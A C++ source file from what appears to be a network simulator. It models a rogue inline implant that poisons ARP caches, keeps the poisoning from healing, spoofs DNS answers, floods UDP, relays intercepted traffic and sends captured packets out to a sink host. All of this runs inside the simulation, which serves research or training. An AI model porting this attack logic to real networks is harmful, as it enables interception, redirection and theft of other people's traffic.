#include "sbcsim/gadget/gadget.hpp"

#include "sbcsim/net/dns.hpp"

namespace sbcsim::gadget {

using namespace net;

SimTime flood_tick_time(const UdpFlood& f, std::uint64_t k) {
    return f.start + SimTime::from_micros(k * 1'000'000 / f.rate);
}

std::vector<EthernetFrame> arp_poison_frames(const ArpPoison& cfg, MacAddr own_mac, MacAddr victim_mac,
                                             MacAddr gateway_mac) {
    ArpPacket to_victim{ArpOp::Reply, own_mac, cfg.gateway_ip, victim_mac, cfg.victim_ip};
    ArpPacket to_gateway{ArpOp::Reply, own_mac, cfg.victim_ip, gateway_mac, cfg.gateway_ip};
    return {make_arp_frame(own_mac, victim_mac, to_victim), make_arp_frame(own_mac, gateway_mac, to_gateway)};
}

std::optional<EthernetFrame> dns_spoof_response(const DnsSpoof& cfg, const EthernetFrame& query) {
    const auto* ip = query.ipv4();
    if (!ip) return std::nullopt;
    const auto* udp = ip->udp();
    if (!udp || udp->dst_port != kDnsPort) return std::nullopt;
    DnsMessage q;
    try {
        q = decode_dns(udp->payload);
    } catch (const DnsError&) {
        return std::nullopt;
    }
    if (q.is_response) return std::nullopt;
    for (const auto& [name, addr] : cfg.names) {
        if (!dns_name_equal(name, q.qname)) continue;
        auto resp = make_dns_response(q, {DnsAnswer{q.qname, addr, 300}});
        return make_udp_frame(query.dst, query.src, ip->dst, ip->src,
                              UdpDatagram{udp->dst_port, udp->src_port, encode_dns(resp)});
    }
    return std::nullopt;
}

Gadget::Gadget(GadgetConfig cfg, std::optional<ExfilSetup> exfil)
    : Node(cfg.name), cfg_(std::move(cfg)), capture_(cfg_.capture_interval), exfil_(std::move(exfil)) {
    if (cfg_.mode == Mode::Active) {
        StackConfig sc;
        sc.mac = cfg_.own_mac;
        sc.ip = cfg_.own_ip.value_or(Ipv4Addr{});
        sc.prefix = cfg_.prefix;
        stack_ = std::make_unique<IpStack>(sc, timers_,
                                           [this](StepContext& ctx, FrameRef f) { stack_transmit(ctx, std::move(f)); });
    }
    poison_done_.assign(cfg_.attacks.size(), false);
}

void Gadget::on_start(StepContext& ctx) {
    if (cfg_.mode != Mode::Active) return;
    for (std::size_t i = 0; i < cfg_.attacks.size(); ++i) {
        if (const auto* p = std::get_if<ArpPoison>(&cfg_.attacks[i])) {
            timers_.schedule(ctx, p->start, [this, i](StepContext& c) { poison_tick(c, i); });
        } else if (const auto* f = std::get_if<UdpFlood>(&cfg_.attacks[i])) {
            if (f->target) {
                // Resolve ahead of time so the first datagrams are not held back behind ARP.
                const SimTime lead = SimTime::from_seconds(1);
                const SimTime at = f->start > lead ? f->start - lead : SimTime{};
                timers_.schedule(ctx, at, [this, dst = *f->target](StepContext& c) {
                    if (!stack_->arp().lookup(dst, c.now())) stack_->send_arp_request(c, dst);
                });
            }
            timers_.schedule(ctx, flood_tick_time(*f, 0), [this, i](StepContext& c) { flood_tick(c, i, 0); });
        }
    }
    if (exfil_) {
        const auto interval = exfil_->scheduler->config().interval;
        timers_.schedule(ctx, ctx.now() + interval, [this](StepContext& c) { exfil_tick(c, true); });
    }
}

void Gadget::learn(int port, const EthernetFrame& f) {
    if (f.src == cfg_.own_mac) return;
    if (!f.src.is_group()) side_[f.src] = port;
    if (const auto* arp = f.arp()) {
        if (arp->sender_mac != cfg_.own_mac && !arp->sender_ip.is_unspecified())
            bindings_[arp->sender_ip] = arp->sender_mac;
    }
}

bool Gadget::poisoning(SimTime now) const {
    if (halted_) return false;
    for (const auto& a : cfg_.attacks)
        if (const auto* p = std::get_if<ArpPoison>(&a))
            if (now >= p->start && (!p->stop || now < *p->stop)) return true;
    return false;
}

void Gadget::on_frame(StepContext& ctx, int port, const FrameRef& frame) {
    capture_.record(ctx.now(), port == kVictimPort ? Direction::FromVictim : Direction::FromNetwork, frame->bytes);
    ++stats_.frames_captured;
    if (cfg_.mode == Mode::Passive) {
        ctx.forward(other(port), frame);
        ++stats_.frames_forwarded;
        return;
    }

    const auto& f = frame->frame;
    learn(port, f);
    if (intercept_arp_reply(ctx, port, f)) {
        ++stats_.frames_consumed;
        return;
    }
    if (try_spoof(ctx, port, frame)) return;

    if (f.dst == cfg_.own_mac) {
        if (!try_relay(ctx, port, f)) stack_->receive(ctx, port, frame, true);
        ++stats_.frames_consumed;
        return;
    }
    ctx.forward(other(port), frame);
    ++stats_.frames_forwarded;
    if (f.dst.is_broadcast()) stack_->receive(ctx, port, frame, true);
}

bool Gadget::intercept_arp_reply(StepContext& ctx, int port, const EthernetFrame& f) {
    const auto* arp = f.arp();
    if (!arp || arp->op != ArpOp::Reply || !poisoning(ctx.now())) return false;
    for (const auto& a : cfg_.attacks) {
        const auto* p = std::get_if<ArpPoison>(&a);
        if (!p) continue;
        const bool gw_to_victim = port == kNetworkPort && arp->sender_ip == p->gateway_ip &&
                                  arp->target_ip == p->victim_ip;
        const bool victim_to_gw = port == kVictimPort && arp->sender_ip == p->victim_ip &&
                                  arp->target_ip == p->gateway_ip;
        if (!gw_to_victim && !victim_to_gw) continue;
        // Replace the genuine answer with a forged one so the cache never heals.
        auto frames = arp_poison_frames(*p, cfg_.own_mac, gw_to_victim ? arp->target_mac : arp->sender_mac,
                                        gw_to_victim ? arp->sender_mac : arp->target_mac);
        ctx.emit(other(port), gw_to_victim ? frames[0] : frames[1]);
        ++stats_.poison_replies;
        return true;
    }
    return false;
}

bool Gadget::try_spoof(StepContext& ctx, int port, const FrameRef& frame) {
    if (port != kVictimPort) return false;
    for (const auto& a : cfg_.attacks) {
        const auto* s = std::get_if<DnsSpoof>(&a);
        if (!s) continue;
        auto forged = dns_spoof_response(*s, frame->frame);
        if (!forged) continue;
        const auto resp = decode_dns(forged->ipv4()->udp()->payload);
        stats_.spoof_hits.push_back(SpoofHit{ctx.now(), resp.qname, resp.id, resp.answers.front().address});
        ctx.emit(port, std::move(*forged));
        if (s->race_mode) {
            ctx.forward(other(port), frame);
            ++stats_.frames_forwarded;
        } else {
            ctx.observe(port, frame, "dns-spoof consumed query");
            ++stats_.frames_consumed;
        }
        return true;
    }
    return false;
}

bool Gadget::try_relay(StepContext& ctx, int port, const EthernetFrame& f) {
    const auto* ip = f.ipv4();
    if (!ip || (cfg_.own_ip && ip->dst == *cfg_.own_ip)) return false;
    std::optional<MacAddr> next;
    if (auto it = bindings_.find(ip->dst); it != bindings_.end()) next = it->second;
    if (!next && port == kVictimPort) {
        // Off-subnet destination: hand it to the real gateway.
        for (const auto& a : cfg_.attacks)
            if (const auto* p = std::get_if<ArpPoison>(&a))
                if (auto g = bindings_.find(p->gateway_ip); g != bindings_.end()) next = g->second;
    }
    if (!next) return false;
    EthernetFrame out = f;
    out.src = cfg_.own_mac;
    out.dst = *next;
    auto side = side_.find(*next);
    ctx.emit(side != side_.end() ? side->second : other(port), std::move(out));
    ++stats_.frames_relayed;
    return true;
}

void Gadget::stack_transmit(StepContext& ctx, FrameRef frame) {
    auto it = side_.find(frame->frame.dst);
    ctx.emit(it != side_.end() ? it->second : kNetworkPort, std::move(frame));
}

void Gadget::poison_tick(StepContext& ctx, std::size_t i) {
    const auto& p = std::get<ArpPoison>(cfg_.attacks[i]);
    if (halted_ || poison_done_[i]) return;
    if (p.stop && ctx.now() >= *p.stop) {
        poison_done_[i] = true;
        if (p.rearp_on_stop) rearp(ctx, p);
        return;
    }
    auto v = bindings_.find(p.victim_ip);
    auto g = bindings_.find(p.gateway_ip);
    const Ipv4Addr own_ip = cfg_.own_ip.value_or(Ipv4Addr{});
    auto ask = [&](Ipv4Addr target, int port) {
        ArpPacket req{ArpOp::Request, cfg_.own_mac, own_ip, MacAddr::zero(), target};
        ctx.emit(port, make_arp_frame(cfg_.own_mac, MacAddr::broadcast(), req));
    };
    if (v == bindings_.end() || g == bindings_.end()) {
        if (v == bindings_.end()) ask(p.victim_ip, kVictimPort);
        if (g == bindings_.end()) ask(p.gateway_ip, kNetworkPort);
    } else {
        auto frames = arp_poison_frames(p, cfg_.own_mac, v->second, g->second);
        ctx.emit(kVictimPort, frames[0]);
        ctx.emit(kNetworkPort, frames[1]);
        stats_.poison_replies += 2;
        if (!stats_.first_poison) stats_.first_poison = ctx.now();
    }
    timers_.schedule(ctx, ctx.now() + p.period, [this, i](StepContext& c) { poison_tick(c, i); });
}

void Gadget::rearp(StepContext& ctx, const ArpPoison& p) {
    auto v = bindings_.find(p.victim_ip);
    auto g = bindings_.find(p.gateway_ip);
    if (v == bindings_.end() || g == bindings_.end()) return;
    ArpPacket to_victim{ArpOp::Reply, g->second, p.gateway_ip, v->second, p.victim_ip};
    ArpPacket to_gateway{ArpOp::Reply, v->second, p.victim_ip, g->second, p.gateway_ip};
    ctx.emit(kVictimPort, make_arp_frame(cfg_.own_mac, v->second, to_victim));
    ctx.emit(kNetworkPort, make_arp_frame(cfg_.own_mac, g->second, to_gateway));
}

void Gadget::on_link_down(StepContext& ctx, int) {
    if (halted_) return;
    for (std::size_t i = 0; i < cfg_.attacks.size(); ++i) {
        const auto* p = std::get_if<ArpPoison>(&cfg_.attacks[i]);
        if (!p || poison_done_[i] || ctx.now() < p->start) continue;
        poison_done_[i] = true;
        if (p->rearp_on_stop) rearp(ctx, *p);
    }
    halted_ = true;
}

void Gadget::flood_tick(StepContext& ctx, std::size_t i, std::uint64_t k) {
    const auto& f = std::get<UdpFlood>(cfg_.attacks[i]);
    if (halted_ || (f.stop && ctx.now() >= *f.stop)) return;
    const Ipv4Addr own_ip = cfg_.own_ip.value_or(Ipv4Addr{});
    Bytes payload(f.payload_len, kFloodFiller);
    if (f.target) {
        const auto port = static_cast<std::uint16_t>(ctx.rng().uniform(f.port_lo, f.port_hi));
        stats_.flood_ports.push_back(port);
        stack_->send_udp(ctx, *f.target, kFloodSourcePort, port, std::move(payload));
    } else {
        const auto hosts = Subnet{own_ip, cfg_.prefix}.hosts();
        Ipv4Addr dst = hosts.empty() ? own_ip : hosts[ctx.rng().uniform(0, hosts.size() - 1)];
        const auto port = static_cast<std::uint16_t>(ctx.rng().uniform(f.port_lo, f.port_hi));
        stats_.flood_ports.push_back(port);
        ctx.emit(kNetworkPort, make_udp_frame(cfg_.own_mac, MacAddr::broadcast(), own_ip, dst,
                                              UdpDatagram{kFloodSourcePort, port, std::move(payload)}));
    }
    ++stats_.flood_sent;
    timers_.schedule(ctx, flood_tick_time(f, k + 1), [this, i, k](StepContext& c) { flood_tick(c, i, k + 1); });
}

void Gadget::exfil_tick(StepContext& ctx, bool periodic) {
    auto& sched = *exfil_->scheduler;
    if (periodic) timers_.schedule(ctx, ctx.now() + sched.config().interval, [this](StepContext& c) { exfil_tick(c, true); });
    for (auto& file : capture_.advance_to(ctx.now())) sched.enqueue(exfil::ExfilFile{file.name, file.serialize()});
    if (halted_) return;

    const auto delivered = sched.tick(ctx.now());
    if (auto retry = sched.next_retry(); retry && periodic && *retry < ctx.now() + sched.config().interval)
        timers_.schedule(ctx, *retry, [this](StepContext& c) { exfil_tick(c, false); });
    if (delivered.empty()) return;

    // One session per tick carries every file delivered in it, in order.
    ExfilTransfer t{ctx.now(), {}, 0, false};
    Bytes payload;
    for (const auto& f : delivered) {
        t.files.push_back(f.name);
        const Bytes part = sched.channel().wire_payload(f);
        payload.insert(payload.end(), part.begin(), part.end());
    }
    t.bytes = payload.size();
    const std::size_t slot = stats_.transfers.size();
    stats_.transfers.push_back(std::move(t));
    stack_->tcp_request(ctx, exfil_->sink_ip, sched.channel().sink_port(), std::move(payload), true,
                        [this, slot](StepContext&, bool ok, const Bytes&) { stats_.transfers[slot].completed = ok; });
}

void Gadget::on_finish(SimTime) { capture_.finish(); }

}  // namespace sbcsim::gadget
